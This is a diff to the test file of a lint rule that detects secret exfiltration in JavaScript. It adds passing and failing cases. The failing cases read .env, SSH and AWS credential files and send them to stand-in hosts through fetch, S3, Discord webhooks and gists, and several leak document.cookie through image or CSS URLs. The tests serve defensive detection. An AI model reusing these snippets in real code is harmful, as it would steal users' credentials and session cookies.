@@ -3,6 +3,12 @@ import { ruleTester } from '../tester.ts';
 
 await ruleTester(rule, {
   valid: [
+    // uploads of ordinary files, pixels without a cookie, streams that stay
+    { code: 'import { S3Client, PutObjectCommand } from "@aws-sdk/client-s3"; import fs from "node:fs"; await new S3Client({}).send(new PutObjectCommand({ Bucket: "x", Key: "k", Body: fs.createReadStream("dist/app.js") }));' },
+    { code: 'import nodemailer from "nodemailer"; nodemailer.createTransport({}).sendMail({ to, text: `${os.hostname()} is up`, html: token });' },
+    { code: 'const Pixel = () => <img alt="" src={`https://px.example.com/p?v=${version}`} />;', filename: 'file.jsx' },
+    { code: 'box.innerHTML = `<a href="https://a.example.com/">docs</a> ${document.cookie.length}`;' },
+    { code: 'import { pipeline } from "node:stream/promises"; import fs from "node:fs"; await pipeline(fs.createReadStream(".env"), fs.createWriteStream(".env.bak"));' },
     { code: 'app.get("/x", async (req, res) => { await fetch("https://api.example-service.com/introspect", { method: "POST", headers: { authorization: req.headers.authorization }, body: JSON.stringify({ token: req.headers.authorization }) }); });' },
     { code: 'import dns from "node:dns/promises"; await dns.lookup(process.env.DB_HOST ?? "localhost"); await dns.lookup(`${process.env.REGION ?? ""}.example-service.com`);' },
     { code: "import fs from 'node:fs'; import dotenv from 'dotenv'; const config = dotenv.parse(fs.readFileSync('.env')); fetch('https://api.example-service.com', { headers: { authorization: `Bearer ${config.API_KEY}` } });" },
@@ -96,6 +102,15 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
+    // libraries that upload; pipelines; what a browser loads
+    { code: 'import { S3Client, PutObjectCommand } from "@aws-sdk/client-s3"; import fs from "node:fs"; await new S3Client({}).send(new PutObjectCommand({ Bucket: "x", Key: "k", Body: fs.createReadStream(process.env.HOME + "/.aws/credentials") }));', errors: [{ messageId: 'sent' }] },
+    { code: 'import { WebhookClient } from "discord.js"; import { readFileSync } from "fs"; new WebhookClient({ id: "1", token: t }).send({ content: readFileSync(".env", "utf8") });', errors: [{ messageId: 'sent' }] },
+    { code: 'import { Octokit } from "@octokit/rest"; import { readFileSync } from "fs"; await new Octokit({ auth }).rest.gists.create({ files: { a: { content: readFileSync(".env", "utf8") } } });', errors: [{ messageId: 'sent' }] },
+    { code: 'import { pipeline } from "node:stream/promises"; import fs from "node:fs"; import https from "node:https"; await pipeline(fs.createReadStream(".env"), https.request("https://a.example-service.com", { method: "PUT" }));', errors: [{ messageId: 'sent' }] },
+    { code: 'import { FormData, File, fetch } from "undici"; import { readFileSync } from "fs"; const form = new FormData(); form.set("f", new File([readFileSync(".env")], "x")); await fetch("https://a.example-service.com", { method: "POST", body: form });', errors: [{ messageId: 'sent' }] },
+    { code: 'const Pixel = () => <img alt="" src={`https://px.example-service.com/p?t=${btoa(document.cookie)}`} />;', filename: 'file.jsx', errors: [{ messageId: 'sent' }] },
+    { code: 'document.body.style.backgroundImage = `url(https://px.example-service.com/b?c=${document.cookie})`;', errors: [{ messageId: 'sent' }] },
+    { code: 'img.setAttribute("src", "https://px.example-service.com/p?c=" + document.cookie);', errors: [{ messageId: 'sent' }] },
     { code: "import fs from 'node:fs'; fetch('https://api.example-service.com', { headers: { 'x-data': fs.readFileSync('/root/.ssh/id_rsa', 'utf8') } });", errors: [{ messageId: 'sent' }] },
     { code: "import { promises as fs } from 'node:fs'; const all = await Promise.all(['.env', '.npmrc'].map((file) => fs.readFile(file, 'utf8'))); await fetch('https://t.example-service.com', { method: 'POST', body: all.join() });", errors: [{ messageId: 'sent' }] },
     { code: 'import fs from "fs"; fetch("https://api.example-service.com", { method: "POST", body: fs.readFileSync(".env") });', errors: [{ messageId: 'sent', line: 1, column: 87, endLine: 1, endColumn: 110 }] },
